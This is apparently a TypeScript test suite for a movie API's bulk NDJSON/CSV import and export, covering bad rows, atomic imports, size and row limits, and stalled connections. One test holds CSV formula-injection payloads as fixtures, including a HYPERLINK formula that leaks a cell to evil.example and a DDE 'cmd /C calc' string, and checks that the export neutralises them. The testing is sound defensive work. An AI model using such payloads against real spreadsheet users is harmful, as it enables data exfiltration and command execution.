import assert from 'node:assert/strict';
import { type AddressInfo, connect } from 'node:net';
import { Readable } from 'node:stream';
import { test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { setFlagsFromString } from 'node:v8';
import { runInNewContext } from 'node:vm';
import { parse } from 'csv-parse/sync';
import { importMovies, MAX_IMPORT_ROWS } from '../src/movies/bulk.ts';
import { PayloadTooLargeError } from '../src/platform/errors.ts';
import { buildTestApp } from './helpers.ts';

setFlagsFromString('--expose-gc');
const gc = runInNewContext('gc') as () => void;

const t = await buildTestApp({ flags: ['-import-max-bytes', '100000000'] });
await t.app.listen({ host: '127.0.0.1', port: 0 });
const base = `http://127.0.0.1:${(t.app.server.address() as AddressInfo).port}`;
const auth = { authorization: `Bearer ${t.token}` };

const ROWS = 100_000;
const BAD_LINES = [1, 2, 777, 5_000, 12_345, 50_000, 50_001, 77_777, 99_999, 100_000];
const padding = 'x'.repeat(300);
const line = (n: number) =>
  BAD_LINES.includes(n)
    ? n % 2 === 0
      ? `{"title": "bad ${n}", "year": 1500, "runtime": "90 mins", "genres": ["drama"]}`
      : `{"title": "bad ${n}",`
    : JSON.stringify({
        title: `Bulk ${n} ${padding}`,
        year: 2000 + (n % 20),
        runtime: `${90 + (n % 60)} mins`,
        genres: ['bulk', `g${n % 7}`],
      });

async function* lines(count: number) {
  for (let n = 1; n <= count; n += 1000) {
    let chunk = '';
    for (let k = n; k < n + 1000 && k <= count; k++) chunk += `${line(k)}\n`;
    yield Buffer.from(chunk);
  }
}

// Samples the live heap (collected first, so garbage does not count) while `work` runs;
// returns the largest growth over the starting value.
async function heapGrowth(work: () => Promise<void>): Promise<number> {
  gc();
  const start = process.memoryUsage().heapUsed;
  let peak = start;
  const timer = setInterval(() => {
    gc();
    peak = Math.max(peak, process.memoryUsage().heapUsed);
  }, 250);
  try {
    await work();
  } finally {
    clearInterval(timer);
  }
  return peak - start;
}

async function upload(path: string, body: AsyncIterable<Buffer> | string) {
  const res = await fetch(`${base}${path}`, {
    method: 'POST',
    headers: auth,
    body: typeof body === 'string' ? body : (Readable.toWeb(Readable.from(body)) as ReadableStream),
    duplex: 'half',
  } as RequestInit);
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

const count = async (where = "'bulk' = ANY(genres)") =>
  (await t.db.query<{ n: number }>(`SELECT count(*) AS n FROM movies WHERE ${where}`)).rows[0]?.n;

test('when 100,000 NDJSON rows with 10 bad ones are imported, then the good ones are stored and the bad ones reported by line, and the export of them streams in bounded memory', async () => {
  let res: Awaited<ReturnType<typeof upload>> | undefined;
  const importGrowth = await heapGrowth(async () => {
    res = await upload('/v1/movies/import', lines(ROWS));
  });
  assert.equal(res?.status, 200, JSON.stringify(res?.body));
  const report = res?.body as {
    imported: number;
    failed: number;
    errors: { line: number; error: unknown }[];
  };
  assert.equal(report.imported, ROWS - BAD_LINES.length);
  assert.equal(report.failed, BAD_LINES.length);
  assert.deepEqual(
    report.errors.map((e) => e.line),
    BAD_LINES,
  );
  assert.deepEqual(report.errors[0]?.error, 'body contains badly-formed JSON');
  assert.deepEqual(report.errors[1]?.error, { year: 'must be greater than 1888' });
  assert.equal(await count(), ROWS - BAD_LINES.length);

  let rows = 0;
  let bytes = 0;
  let firstLine = '';
  let contentType = '';
  let disposition = '';
  const exportGrowth = await heapGrowth(async () => {
    const answer = await fetch(`${base}/v1/movies/export?genres=bulk&sort=-year`, { headers: auth });
    contentType = answer.headers.get('content-type') ?? '';
    disposition = answer.headers.get('content-disposition') ?? '';
    const decoder = new TextDecoder();
    for await (const chunk of answer.body as unknown as AsyncIterable<Uint8Array>) {
      bytes += chunk.length;
      const text = decoder.decode(chunk, { stream: true });
      if (firstLine === '') firstLine = text.slice(0, text.indexOf('\n'));
      for (let i = text.indexOf('\n'); i !== -1; i = text.indexOf('\n', i + 1)) rows++;
    }
  });
  assert.equal(contentType, 'application/x-ndjson; charset=utf-8');
  assert.equal(disposition, 'attachment; filename="movies.ndjson"');
  assert.equal(rows, ROWS - BAD_LINES.length);
  const firstMovie = JSON.parse(firstLine) as { year: number; genres: string[] };
  assert.equal(firstMovie.year, 2019);
  assert.ok(bytes > 30_000_000, `${bytes} bytes exported`);
  // Neither side ever holds the data: the heap grows by a fraction of what went through.
  assert.ok(exportGrowth < bytes / 4, `export: heap grew ${exportGrowth} bytes for ${bytes}`);
  assert.ok(importGrowth < bytes / 4, `import: heap grew ${importGrowth} bytes for ${bytes}`);
});

test('when movies with commas, quotes and line breaks are exported as CSV, then RFC 4180 parsing gives them back, and the file imports again', async () => {
  const title = 'Say "hi", then\r\nleave';
  const created = await t.api({
    method: 'POST',
    url: '/v1/movies',
    payload: { title, year: 1999, runtime: '80 mins', genres: ['csv-test', 'two'] },
  });
  assert.equal(created.statusCode, 201);
  const res = await t.api('/v1/movies/export?format=csv&genres=csv-test');
  assert.equal(res.statusCode, 200);
  assert.equal(res.headers['content-type'], 'text/csv; charset=utf-8');
  assert.equal(res.headers['content-disposition'], 'attachment; filename="movies.csv"');
  const records = parse(res.body) as string[][];
  assert.deepEqual(records[0], ['id', 'title', 'year', 'runtime', 'genres', 'version']);
  assert.deepEqual(records.slice(1), [
    [String(created.json().movie.id), title, '1999', '80 mins', 'csv-test,two', '1'],
  ]);

  const again = await upload('/v1/movies/import?format=csv', res.body);
  assert.deepEqual(again.body, { imported: 1, failed: 0, errors: [] });
  assert.equal(await count("'csv-test' = ANY(genres)"), 2);
});

test('when a CSV holds bad records or breaks off in an open quote, then the records before are stored and the failures are reported by line', async () => {
  const csv = [
    'title,year,runtime,genres',
    'Good One,2001,90 mins,csv-bad',
    'Wrong Year,nineteen,90 mins,csv-bad',
    'Too,Many,Fields,Here,Really',
    'Good Two,2002,91 mins,"csv-bad,x"',
    '"Unclosed,2003,92 mins,csv-bad',
    'Never Read,2004,93 mins,csv-bad',
  ].join('\n');
  const res = await upload('/v1/movies/import?format=csv', csv);
  assert.equal(res.status, 200);
  const report = res.body as { imported: number; failed: number; errors: { line: number; error: string }[] };
  assert.equal(report.imported, 2);
  assert.equal(report.failed, 3);
  assert.deepEqual(
    report.errors.map((e) => e.line),
    [3, 4, 7],
  );
  assert.equal(report.errors[0]?.error, 'body contains incorrect JSON type for field "year"');
  assert.match(report.errors[2]?.error ?? '', /^malformed CSV: /);
  assert.equal(await count("'csv-bad' = ANY(genres)"), 2);
});

test('when an import is atomic, then all rows are stored, or with one bad row none and a 422', async () => {
  const good = (n: number) =>
    JSON.stringify({ title: `Atomic ${n}`, year: 2010, runtime: '100 mins', genres: ['atomic'] });
  const rows = Array.from({ length: 2500 }, (_, i) => good(i)).join('\n');
  const ok = await upload('/v1/movies/import?atomic=true', rows);
  assert.deepEqual(ok, { status: 200, body: { imported: 2500, failed: 0, errors: [] } });
  assert.equal(await count("'atomic' = ANY(genres)"), 2500);

  const bad = await upload('/v1/movies/import?atomic=true', `${rows}\n{"title": ""}\n${good(9)}`);
  assert.equal(bad.status, 422);
  assert.deepEqual(bad.body, {
    error: { rows: 'nothing was imported: 1 failed' },
    imported: 0,
    failed: 1,
    errors: [
      {
        line: 2501,
        error: {
          title: 'must be provided',
          year: 'must be provided',
          runtime: 'must be provided',
          genres: 'must be provided',
        },
      },
    ],
  });
  assert.equal(await count("'atomic' = ANY(genres)"), 2500);
});

test('when an upload is larger than -import-max-bytes, declared or streamed, then the answer is 413', async () => {
  const small = await buildTestApp({ flags: ['-import-max-bytes', '2048'] });
  const row = `${JSON.stringify({ title: 'Limit', year: 2010, runtime: '100 mins', genres: ['limit'] })}\n`;
  const declared = await small.api({ method: 'POST', url: '/v1/movies/import', payload: row.repeat(100) });
  assert.equal(declared.statusCode, 413);
  assert.deepEqual(declared.json(), { error: 'body must not be larger than 2048 bytes' });
  // Chunked over a real socket: no length to refuse up front, so the count stops it.
  await small.app.listen({ host: '127.0.0.1', port: 0 });
  const port = (small.app.server.address() as AddressInfo).port;
  const streamed = await fetch(`http://127.0.0.1:${port}/v1/movies/import?atomic=true`, {
    method: 'POST',
    headers: { authorization: `Bearer ${small.token}` },
    body: Readable.toWeb(
      Readable.from([Buffer.from(row.repeat(20)), Buffer.from(row.repeat(20))]),
    ) as ReadableStream,
    duplex: 'half',
  } as RequestInit);
  assert.equal(streamed.status, 413);
  assert.deepEqual(await streamed.json(), { error: 'body must not be larger than 2048 bytes' });
  assert.equal(
    (await small.db.query("SELECT count(*) AS n FROM movies WHERE 'limit' = ANY(genres)")).rows[0]?.n,
    0,
  );
});

test('when atomic imports stall in the middle of their bodies, then they hold a quarter of the pool at most and the API still answers', async () => {
  const small = await buildTestApp({ flags: ['-db-max-open-conns', '8'] });
  await small.app.listen({ host: '127.0.0.1', port: 0 });
  const port = (small.app.server.address() as AddressInfo).port;
  const movie = await small.api({
    method: 'POST',
    url: '/v1/movies',
    payload: { title: 'Still served', year: 2001, runtime: '90 mins', genres: ['x'] },
  });
  const stalled = Array.from({ length: 10 }, () => {
    const socket = connect({ port, host: '127.0.0.1' });
    socket.on('error', () => {});
    socket.write(
      `POST /v1/movies/import?atomic=true HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${small.token}\r\nContent-Length: 100000\r\n\r\n{"title":"x",`,
    );
    return socket;
  });
  try {
    await sleep(300);
    const started = performance.now();
    const res = await fetch(`http://127.0.0.1:${port}${movie.headers.location}`, {
      headers: { authorization: `Bearer ${small.token}` },
    });
    assert.equal(res.status, 200, await res.text());
    assert.ok(performance.now() - started < 1_000, 'answered without waiting for a connection');
  } finally {
    for (const socket of stalled) socket.destroy();
  }
});

test('when the format or atomic flag is unknown, then the answer is 422 naming it', async () => {
  const exported = await t.api('/v1/movies/export?format=xml');
  assert.equal(exported.statusCode, 422);
  assert.deepEqual(exported.json(), { error: { format: 'must be ndjson or csv' } });
  const imported = await t.api({ method: 'POST', url: '/v1/movies/import?atomic=yes', payload: '' });
  assert.equal(imported.statusCode, 422);
  assert.deepEqual(imported.json(), { error: { atomic: 'must be true or false' } });
});

test('when another method is used on the bulk paths, then 405 with Allow', async () => {
  const get = await t.api('/v1/movies/import');
  assert.equal(get.statusCode, 405);
  assert.equal(get.headers.allow, 'OPTIONS, POST');
  const post = await t.api({ method: 'POST', url: '/v1/movies/export' });
  assert.equal(post.statusCode, 405);
  assert.equal(post.headers.allow, 'GET, OPTIONS');
});

test('when titles and genres start with = + - @, a tab or a carriage return, then the CSV export writes them quoted behind a single quote, and importing the export gives them back unchanged', async () => {
  const titles = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '+cmd',
    '-1+1',
    '\tcmd',
    '\r=cmd',
    '-30-',
    "'=already quoted",
    'Plain, with a comma',
  ];
  for (const title of titles) {
    const created = await t.api({
      method: 'POST',
      url: '/v1/movies',
      payload: { title, year: 2000, runtime: '90 mins', genres: ['=csv-formula', 'two'] },
    });
    assert.equal(created.statusCode, 201, created.body);
  }
  const res = await t.api('/v1/movies/export?format=csv&genres=%3Dcsv-formula');
  assert.equal(res.statusCode, 200);
  const lines = res.body.split('\r\n');
  assert.match(
    lines[1] ?? '',
    /^\d+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1,""click""\)",2000,90 mins,"'=csv-formula,two",1$/,
  );
  const records = (parse(res.body) as string[][]).slice(1);
  assert.deepEqual(
    records.map((r) => r[1]),
    [
      '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
      '\'@SUM(1+1)*cmd|" /C calc"!A0',
      "'+cmd",
      "'-1+1",
      "'\tcmd",
      "'\r=cmd",
      "'-30-",
      "''=already quoted",
      'Plain, with a comma',
    ],
  );
  // Every neutralised cell is quoted, so no spreadsheet reads past the quote either.
  for (const record of records) assert.equal(record[4], "'=csv-formula,two");
  for (const cell of ['+cmd', '-1+1', '\tcmd', '-30-']) assert.ok(res.body.includes(`,"'${cell}",`), cell);

  const again = await upload('/v1/movies/import?format=csv', res.body);
  assert.deepEqual(again.body, { imported: titles.length, failed: 0, errors: [] });
  const { rows } = await t.db.query<{ title: string; genres: string[] }>(
    "SELECT title, genres FROM movies WHERE '=csv-formula' = ANY(genres) ORDER BY id",
  );
  assert.deepEqual(
    rows.map((r) => r.title),
    [...titles, ...titles],
  );
  assert.ok(rows.every((r) => r.genres.join(',') === '=csv-formula,two'));
});

test('when a CSV field is larger than 65536 bytes, then 413 naming the record, and nothing is stored', async () => {
  const huge = `title,year,runtime,genres\n"${'x'.repeat(20_000_000)}",2000,90 mins,csv-huge\n`;
  const res = await t.api({ method: 'POST', url: '/v1/movies/import?format=csv', payload: huge });
  assert.equal(res.statusCode, 413);
  assert.deepEqual(res.json(), { error: 'CSV record at line 2 must not be larger than 65536 bytes' });
  assert.equal(await count("'csv-huge' = ANY(genres)"), 0);
});

test('when a CSV header has a million columns, then 400 naming the limit of 16 fields', async () => {
  const wide = `${'c,'.repeat(1_000_000)}c\nNever,2000,90 mins,csv-wide\n`;
  const res = await t.api({ method: 'POST', url: '/v1/movies/import?format=csv', payload: wide });
  assert.equal(res.statusCode, 400);
  assert.deepEqual(res.json(), { error: 'CSV record at line 1 must not have more than 16 fields' });
  assert.equal(await count("'csv-wide' = ANY(genres)"), 0);
});

test('when an import has more rows than its cap, then it stops there with 413 naming the cap', async () => {
  // The route's cap is 1,000,000 (MAX_IMPORT_ROWS); reaching it over HTTP takes a minute of
  // row checks, so the same import runs here with a cap of 10, on the test's database.
  const rows = Array.from({ length: 11 }, (_, n) =>
    JSON.stringify({ title: `Capped ${n}`, year: 2000, runtime: '90 mins', genres: ['capped'] }),
  );
  await assert.rejects(
    importMovies(t.db, Readable.from([Buffer.from(rows.join('\n'))]), {
      format: 'ndjson',
      atomic: true,
      maxBytes: 1_000_000,
      workers: 1,
      maxRows: 10,
    }),
    (err: Error) =>
      err instanceof PayloadTooLargeError && err.message === 'import must not have more than 10 rows',
  );
  assert.equal(MAX_IMPORT_ROWS, 1_000_000);
  assert.equal(await count("'capped' = ANY(genres)"), 0);
});
